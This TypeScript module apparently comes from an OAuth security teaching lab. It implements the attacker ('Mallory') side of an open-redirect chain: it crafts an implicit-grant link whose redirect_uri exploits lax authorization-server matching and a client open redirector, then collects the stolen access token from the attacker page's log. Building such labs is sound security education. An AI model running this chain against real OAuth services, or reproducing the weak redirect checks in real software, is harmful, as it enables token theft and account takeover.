import { attackerUrl, readAttackerLog } from '@/lib/attack-lab/attacker-log';
import { errorPageMessage } from '@/lib/attack-lab/stolen-code';
import type { Outcome } from '@/lib/attack-lab/verdict';
import { recordFetch } from '@/lib/http-trace/record';
import type { ServerMetadata } from '@/lib/oauth-client/discovery';
import { makeRandomValue } from '@/lib/oauth-client/pkce';
import { ok } from '@/lib/oauth-client/result';
import type { RealmDescriptor } from '@/lib/realms/descriptor';
import { buildImplicitUrl } from '../implicit.response';
import { networkFailure, type StepOutput } from '../step-output';

/**
 * Mallory's side of the open-redirect chain (RFC 9700 §4.1.2): an implicit-grant link for the legacy
 * SPA whose redirect_uri is the registered callback plus `?realm=…&next=<her page>`, and her reading of
 * what her page caught from its own location.hash.
 */
export const LEGACY_CLIENT = 'legacy-spa';
export const OPEN_REDIRECT_SCOPE = 'photos:read';

/** The lax AS check the chain rides on; either accepts the registered URI with a query added. */
export const OPEN_REDIRECT_VARIANTS = {
  'extra-query': { label: 'AS ignores extra query parameters', weakness: 'as-redirect-uri-extra-query' },
  prefix: { label: 'AS prefix match', weakness: 'as-redirect-uri-prefix' },
} as const;
export type OpenRedirectVariant = keyof typeof OPEN_REDIRECT_VARIANTS;

export const isOpenRedirectVariant = (v: string | undefined): v is OpenRedirectVariant =>
  v !== undefined && Object.hasOwn(OPEN_REDIRECT_VARIANTS, v);

/** The Vulnerable realm of a variant: implicit allowed, the lax AS check, and the client's open redirector. */
export function openRedirectWeaknesses(variant: string | undefined): string[] {
  const lax = OPEN_REDIRECT_VARIANTS[isOpenRedirectVariant(variant) ? variant : 'extra-query'].weakness;
  return ['as-implicit-grant-allowed', lax, 'client-open-redirect'];
}

/** `{origin}/flows/callback?realm={id}&next={her page}`: the client's own callback, sending the browser on to her page. */
export function redirectorUri(origin: string, realm: { id: string }): string {
  const u = new URL(`${origin}/flows/callback`);
  u.searchParams.set('realm', realm.id);
  u.searchParams.set('next', `${origin}${attackerUrl(realm, 'or')}`);
  return u.href;
}

export interface ImplicitLink {
  url: string;
  redirectUri: string;
  state: string;
}

/** Her authorization request (RFC 6749 §4.2.1, `response_type=token`) with the redirector as redirect_uri. */
export function craftImplicitLink(
  step: string,
  origin: string,
  realm: RealmDescriptor,
  metadata: ServerMetadata,
): StepOutput<ImplicitLink> {
  const redirectUri = redirectorUri(origin, realm);
  const state = makeRandomValue();
  const built = buildImplicitUrl(metadata.authorization_endpoint, {
    clientId: LEGACY_CLIENT,
    redirectUri,
    scope: OPEN_REDIRECT_SCOPE,
    state,
  });
  return {
    step,
    exchanges: [],
    facts: [
      { label: 'registered redirect URI', value: `${origin}/flows/callback` },
      { label: 'redirect_uri in her link', value: redirectUri },
      { label: 'next (her page)', value: `${origin}${attackerUrl(realm, 'or')}` },
    ],
    result: ok({ url: built.url, redirectUri, state }),
  };
}

export type Caught = { token: string } | { outcome: Outcome };

/**
 * She reads her site's log for a fragment her page read with her link's `state` and an access_token.
 * When none arrived she opens her link herself (recorded) to see what the AS makes of it.
 */
export async function collectToken(step: string, realm: RealmDescriptor, link: ImplicitLink): Promise<StepOutput<Caught>> {
  try {
    const origin = new URL(realm.issuer).origin;
    const records = await readAttackerLog(realm, (url, init) => fetch(new URL(String(url), origin), init));
    const hit = records.filter((r) => r.kind === 'fragment' && r.fields.state === link.state && r.fields.access_token).at(-1);
    if (hit) {
      const facts = [
        { label: 'her page read location.hash', value: `#access_token=${hit.fields.access_token.slice(0, 24)}…` },
        { label: 'state (her link’s)', value: hit.fields.state },
      ];
      return { step, exchanges: [], facts, result: ok({ token: hit.fields.access_token }) };
    }
    const { exchange, response, body } = await recordFetch(
      new Request(link.url, { headers: { accept: 'text/html' }, redirect: 'manual' }),
      { step, from: 'attacker', to: 'as' },
    );
    const message = errorPageMessage(body);
    const refused = response.status === 400 && message !== undefined;
    const what = refused
      ? `the authorization server refused the redirect_uri with an error page (HTTP 400, “${message}”) and redirected nowhere: no token was issued, the client’s callback was never reached, and Mallory’s page read nothing.`
      : `Mallory’s page read no token for her link (the AS answered her link with HTTP ${response.status}); was the link opened and consent given? Press Reset to try again.`;
    return {
      step,
      exchanges: [exchange],
      facts: [
        { label: 'her page read', value: 'no fragment with her link’s state' },
        { label: 'the AS’s answer to her link', value: `HTTP ${response.status}${message ? ` — ${message}` : ''}` },
      ],
      result: ok({ outcome: { succeeded: false, what } }),
    };
  } catch (e) {
    return networkFailure(step, e);
  }
}
